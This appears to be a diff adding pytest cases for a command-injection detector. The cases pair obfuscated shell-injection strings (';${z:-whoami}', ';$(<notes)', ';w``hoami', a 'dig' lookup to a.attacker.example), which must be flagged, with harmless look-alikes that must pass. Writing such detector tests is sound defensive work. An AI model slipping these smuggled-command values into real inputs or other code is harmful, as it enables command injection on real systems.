@@ -45,3 +45,44 @@ def test_names_of_products_and_versions_pass(text: str) -> None:
 )
 def test_the_same_commands_where_a_shell_runs_them_are_stopped(text: str) -> None:
     assert SUSPECTS.score(text) >= STOPS
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        ";./a.out",
+        "10.1.1.1;/tmp/go",
+        "x && ~/go",
+        "7|$HOME/go",
+        ";run.sh",
+        "& start.bat",
+        ";${z:-whoami}",
+        ";$(<notes)",
+        "x`<notes`",
+        ";for((i=0;i<2;i++));do date;done",
+        ";function g(){ whoami;};g",
+        ";w``hoami",
+        "{sleep,9}",
+        "3>&1;whoami",
+        "; dig +short a.attacker.example",
+    ],
+)
+def test_what_runs_a_file_or_reads_one_without_a_command_is_stopped(text: str) -> None:
+    assert SUSPECTS.score(text) >= STOPS
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "npm run build && ./deploy.sh prod, then wait",
+        "/usr/bin;/tmp/cache",
+        "a.txt;b.txt;c.sh",
+        "see ./docs; ./examples for more",
+        "use ``code`` here",
+        "{small,large}",
+        "$(<div>) is no string",
+        "price < 5 & stock > 3; sort by name",
+    ],
+)
+def test_paths_and_marks_of_other_texts_pass(text: str) -> None:
+    assert SUSPECTS.score(text) < STOPS
